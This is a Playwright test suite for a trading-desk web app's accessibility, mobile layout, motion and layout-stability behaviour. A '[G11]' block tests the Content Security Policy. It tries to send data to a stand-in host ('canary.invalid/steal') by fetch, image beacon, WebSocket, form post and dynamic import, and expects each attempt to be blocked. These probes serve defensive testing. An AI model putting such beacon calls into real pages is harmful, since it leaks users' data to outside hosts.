import AxeBuilder from '@axe-core/playwright';
import type { Page } from 'playwright/test';
import { expect, test } from './fixtures.ts';
import type { Desk } from './pages/desk.ts';
import { alone, NO_VENUES } from './recordings.ts';

const FOREIGN = 'canary.invalid';

/** Findings that keep somebody from using the page. */
async function barriers(page: Page): Promise<string[]> {
  const { violations } = await new AxeBuilder({ page }).analyze();
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .flatMap(({ id, nodes }) =>
      nodes.slice(0, 3).map(({ target, failureSummary }) => `${id} ${target} ${failureSummary}`),
    );
}

async function openLive(desk: Desk, keys: string): Promise<void> {
  await desk.openDemo('BTC-USD', `seed=7&rate=50&${keys}`);
  await desk.expectState('live');
}

for (const theme of ['dark', 'light', 'contrast'] as const) {
  test(`nothing on the ${theme} page keeps anybody out`, async ({ desk, page }) => {
    await openLive(desk, `theme=${theme}`);
    for (const panel of desk.panels) await panel.expectState('live');
    expect(await barriers(page)).toEqual([]);
  });
}

test('nor in the search, the keys, a refusal or a paused tape', async ({ desk, page, serve }) => {
  await openLive(desk, NO_VENUES);
  await desk.openSearch();
  await page.keyboard.type('u');
  await expect(desk.search.getByRole('option').first()).toBeVisible();
  expect(await barriers(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await expect(desk.search).toBeHidden();
  await page.keyboard.press('?');
  await expect(desk.shortcuts).toBeVisible();
  expect(await barriers(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await desk.tape.button('Pause the tape').click();
  expect(await barriers(page)).toEqual([]);
  const venue = await serve({ files: [alone('binance-spot.jsonl.gz', 'BTCUSDT')] });
  await desk.open(`i=binance:NOSUCHCOIN&endpoint=${venue.endpoint()}`);
  await desk.expectState('rejected');
  expect(await barriers(page)).toEqual([]);
});

for (const [device, width, height] of [
  ['a phone', 390, 844],
  ['the narrowest screen', 320, 640],
] as const) {
  test(`on ${device} of ${width} px every panel is at hand and nothing is cut off`, async ({ desk, page }) => {
    await page.setViewportSize({ width, height });
    await openLive(desk, 'theme=dark');
    const tabs = page.getByRole('navigation', { name: 'Panels' });
    for (const [tab, panel] of [
      ['Book', desk.ladder],
      ['Tape', desk.tape],
      ['Chart', desk.chart],
    ] as const) {
      await tabs.getByRole('button', { name: tab }).click();
      await panel.expectState('live');
      await expect(panel.mark('SIMULATED')).toBeVisible();
      await expect(panel.chip).toBeVisible();
      const box = await panel.region.boundingBox();
      expect(box?.x ?? -1).toBeGreaterThanOrEqual(0);
      expect((box?.x ?? 0) + (box?.width ?? 0)).toBeLessThanOrEqual(width);
      expect(await barriers(page)).toEqual([]);
    }
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(width);
  });
}

test('at twice the text size the controls are still there', async ({ desk, page }) => {
  await page.setViewportSize({ width: 640, height: 400 });
  await openLive(desk, 'theme=dark');
  for (const name of ['Symbol or command', 'Keyboard shortcuts and about'])
    await expect(page.getByRole('button', { name })).toBeInViewport();
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(640);
});

test('no policy is broken and nothing is complained of while everything is opened', async ({ desk, page }) => {
  await openLive(desk, NO_VENUES);
  await desk.openSearch();
  await page.keyboard.type('gold');
  await page.keyboard.press('Escape');
  await page.keyboard.press('?');
  await expect(desk.shortcuts).toBeVisible();
  await page.keyboard.press('Escape');
  await desk.chart.picture.focus();
  await page.keyboard.press('1');
  await page.keyboard.press('Escape');
  await page.setViewportSize({ width: 900, height: 700 });
  const more = desk.chart.button('More intervals');
  if (await more.isVisible()) {
    await more.click();
    await page.keyboard.press('Escape');
  }
  for (let press = 0; press < 3; press++) await page.getByRole('button', { name: /^Theme: / }).click();
  await desk.ladder.region.getByRole('combobox', { name: 'Recentre the ladder' }).selectOption({ label: 'Centred' });
  await desk.tape.button(/^Fold/).click();
  await desk.tape.button('Pause the tape').click();
  await desk.expectState('live');
  expect(await page.evaluate(() => window.violations)).toEqual([]);
});

test.describe('what tries to reach a foreign host', () => {
  test.use({ allowsErrors: true, allowsStrayHosts: true });

  test('[G11] is stopped and reported in the page', async ({ desk, page }) => {
    await openLive(desk, 'theme=dark');
    const outcome = await page.evaluate(async (host) => {
      const failed = async (run: () => unknown): Promise<boolean> => {
        try {
          await run();
          return false;
        } catch {
          return true;
        }
      };
      const errors = [
        await failed(() => fetch(`https://${host}/steal?x=1`)),
        await failed(
          () =>
            new Promise((resolve, reject) => {
              const image = new Image();
              image.onload = resolve;
              image.onerror = () => reject(new Error('blocked'));
              image.src = `https://${host}/x.png`;
            }),
        ),
        await failed(
          () =>
            new Promise((resolve, reject) => {
              const socket = new WebSocket(`wss://${host}/`);
              socket.onopen = resolve;
              socket.onerror = () => reject(new Error('blocked'));
            }),
        ),
        await failed(() => Reflect.construct(Function, ['return 1'])()),
        await failed(() => {
          document.createElement('div').innerHTML = '<b>x</b>';
        }),
        await failed(() => new Worker('data:text/javascript,0')),
      ];
      const form = document.createElement('form');
      form.action = `https://${host}/post`;
      form.method = 'post';
      document.body.append(form);
      form.submit();
      form.remove();
      return errors;
    }, FOREIGN);
    expect(outcome).toEqual([true, true, true, true, true, true]);
    // As text: an import of a computed address would be a door of the test's own.
    expect(await page.evaluate(`import('https://${FOREIGN}/x.js').then(() => false, () => true)`)).toBe(true);
    for (const directive of ['connect-src', 'img-src', 'script-src', 'form-action']) {
      const isReported = async (): Promise<boolean> =>
        (await page.evaluate(() => window.violations)).some((violation) => violation.startsWith(directive));
      await expect.poll(isReported, { message: directive }).toBe(true);
    }
    expect(page.url()).not.toContain(FOREIGN);
    await desk.expectState('live');
  });

  test('[G11] is stopped in the worker too', async ({ desk, page }) => {
    await openLive(desk, 'theme=dark');
    const [worker] = page.workers();
    const outcome = await worker.evaluate(async (host) => {
      const directives: string[] = [];
      self.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
      const fetched = await fetch(`https://${host}/steal`).then(
        () => 'answered',
        () => 'refused',
      );
      const socket = await new Promise<string>((resolve) => {
        try {
          const made = new WebSocket(`wss://${host}/`);
          made.onopen = () => resolve('open');
          made.onerror = () => resolve('refused');
        } catch {
          resolve('refused');
        }
      });
      return { fetched, socket, directives };
    }, FOREIGN);
    expect(outcome.fetched).toBe('refused');
    expect(outcome.socket).toBe('refused');
    expect(outcome.directives.length).toBeGreaterThanOrEqual(2);
    expect(new Set(outcome.directives)).toEqual(new Set(['connect-src']));
    await desk.expectState('live');
  });
});

test('nothing shifts in fifteen seconds of a busy market', async ({ desk, page }) => {
  await desk.openDemo('BTC-USD', 'seed=7&rate=2000');
  for (const panel of desk.panels) await panel.expectState('live');
  await expect.poll(async () => (await desk.tape.terms()).received).toBeGreaterThan(20);
  await page.evaluate(() => {
    const shifts: string[] = [];
    Object.assign(window, { shifts });
    const describe = (node: Node | null): string =>
      node instanceof Element
        ? `${node.tagName} ${node.getAttribute('data-part') ?? node.getAttribute('data-figure') ?? node.className}`
        : String(node?.parentElement?.outerHTML.slice(0, 120) ?? node?.nodeName);
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        const { value, sources } = entry as PerformanceEntry & { value: number; sources: { node: Node | null }[] };
        shifts.push(`${value.toFixed(5)} ${sources.map(({ node }) => describe(node)).join(' | ')}`);
      }
    }).observe({ type: 'layout-shift' });
  });
  const begun = await desk.now();
  await expect.poll(() => desk.now(), { timeout: 25_000, intervals: [1_000] }).toBeGreaterThan(begun + 15_000);
  expect(await page.evaluate(() => Reflect.get(window, 'shifts'))).toEqual([]);
});

test('with reduced motion nothing runs for longer than a blink', async ({ desk, page }) => {
  await openLive(desk, 'rate=200');
  const running = await page.evaluate(async () => {
    const found = new Set<string>();
    await new Promise<void>((resolve) => {
      let frames = 0;
      const look = (): void => {
        for (const animation of document.getAnimations()) {
          const { duration } = animation.effect?.getComputedTiming() ?? {};
          const isBlink = typeof duration === 'number' && duration <= 1;
          const target = (animation.effect as KeyframeEffect | null)?.target;
          if (!isBlink) found.add(`${duration} ms ${target?.className}`);
        }
        if (++frames > 60) resolve();
        else requestAnimationFrame(look);
      };
      look();
    });
    return [...found];
  });
  expect(running).toEqual([]);
});
